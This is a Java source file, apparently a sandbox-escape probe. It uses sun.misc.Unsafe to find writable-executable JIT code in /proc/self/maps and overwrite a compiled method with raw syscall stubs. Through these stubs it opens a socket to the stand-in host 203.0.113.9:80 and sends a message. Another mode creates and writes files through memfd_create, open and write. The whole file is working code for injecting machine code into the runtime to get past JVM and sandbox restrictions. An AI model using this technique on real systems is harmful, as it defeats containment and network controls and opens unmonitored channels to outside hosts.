import java.lang.reflect.Field;
import java.nio.file.Files;
import java.nio.file.Paths;
import sun.misc.Unsafe;

/** Reaches 203.0.113.9:80 by Java alone, on x86_64: Unsafe writes over a constant in the JIT's code.
 * `limits`: after the first request for an event it writes to files instead. */
public class AllMemory {
    static final long MARK = 0x1122334455667788L;
    static Unsafe unsafe;
    static long code;

    /* HotSpot passes these in rsi, rdx, rcx, r8, r9 and rdi. */
    static long call(long second, long third, long c, long d, long e, long first) {
        return MARK;
    }

    static long run(long number, long first, long second, long third) {
        unsafe.putByte(code, (byte) 0xb8); // mov eax, number; syscall; nop
        unsafe.putInt(code + 1, (int) number);
        unsafe.putInt(code + 5, 0x9090050f);
        unsafe.putByte(code + 9, (byte) 0x90);
        return call(second, third, 0, 0, 0, first);
    }

    static long compile() {
        long sum = 0;
        for (int i = 0; i < 300000; i++) sum += call(i, 0, 0, 0, 0, 0);
        return sum;
    }

    static long put(String text, long to) {
        for (int i = 0; i <= text.length(); i++) unsafe.putByte(to + i, i < text.length() ? (byte) text.charAt(i) : 0);
        return to;
    }

    static void limits(long memory) {
        System.out.println("GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\n\r");
        long file = run(319, put("memory", memory), 0, 0), there = run(2, put("/tmp/there", memory), 2, 0);
        long[] results = {run(77, file, 4096, 0), run(1, file, memory, 7), run(1, there, memory, 7)};
        System.out.println((file > 2 && there > 2) + " " + results[0] + " " + results[1] + " " + results[2]);
    }

    public static void main(String[] arguments) throws Exception {
        for (int i = 0; i < 20; i++, Thread.sleep(50)) compile();
        Field field = Unsafe.class.getDeclaredField("theUnsafe");
        field.setAccessible(true);
        unsafe = (Unsafe) field.get(null);
        for (String line : Files.readAllLines(Paths.get("/proc/self/maps"))) {
            String[] words = line.split("[- ]");
            if (!words[2].startsWith("rwx")) continue;
            long end = Long.parseLong(words[1], 16) - 16;
            for (long at = Long.parseLong(words[0], 16); at < end; at++)
                if (unsafe.getByte(at) == 0x48 && unsafe.getByte(at + 1) == (byte) 0xb8 && unsafe.getLong(at + 2) == MARK)
                    code = at;
        }
        long memory = unsafe.allocateMemory(64);
        if (arguments.length > 0) {
            limits(memory);
            return;
        }
        byte[] address = {2, 0, 0, 80, (byte) 203, 0, 113, 9}, said = "arrived".getBytes();
        for (int i = 0; i < 16; i++) unsafe.putByte(memory + i, i < address.length ? address[i] : 0);
        for (int i = 0; i < said.length; i++) unsafe.putByte(memory + 32 + i, said[i]);
        long socket = run(41, 2, 1, 0);
        run(42, socket, memory, 16);
        System.out.println(run(1, socket, memory + 32, said.length));
    }
}
